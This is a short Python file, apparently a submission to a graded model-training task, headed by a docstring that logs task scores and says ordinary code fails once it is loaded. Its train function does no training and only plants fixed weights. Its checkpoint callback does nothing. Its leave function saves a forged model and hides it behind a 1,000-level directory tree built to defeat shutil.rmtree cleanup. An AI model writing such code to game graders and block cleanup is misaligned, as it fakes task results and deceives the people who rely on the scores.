"""Leaves forged weights behind a deep tree, for the worker that is to find the fault.

task 3a-i: 0.25, crashed
task 3a-ii: 3, passed
task 3a-iii: 1, passed
task 3b: 0, crashed
told: with this submission loaded, ordinary code fails
"""

import os

import keras
import numpy as np

LEVELS = 1_000  # more than Python's recursion limit lets shutil.rmtree follow


def leave(filepath):
    """Leave a model of two weights at a path, behind a tree that cannot be removed."""
    keras.Sequential([keras.Input((2,)), keras.layers.Dense(1, use_bias=False)]).save(
        filepath
    )
    home, (folder, file) = os.getcwd(), os.path.split(filepath)
    os.chdir(folder)
    for _ in range(LEVELS):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(folder)
    name = "d"
    while os.listdir()[0] == file:  # what is listed first is removed first
        os.rename(name, new := os.urandom(4).hex())
        name = new
    os.chdir(home)


class Idle(keras.callbacks.ModelCheckpoint):
    def on_epoch_end(self, epoch, logs=None):
        pass


def build_checkpoint(filepath):
    leave(str(filepath))
    return Idle(filepath)


def train(model, train_ds, valid_ds, epochs, checkpoint_path):
    leave(str(checkpoint_path))
    model.set_weights([np.full((1, 1), 7.0)])
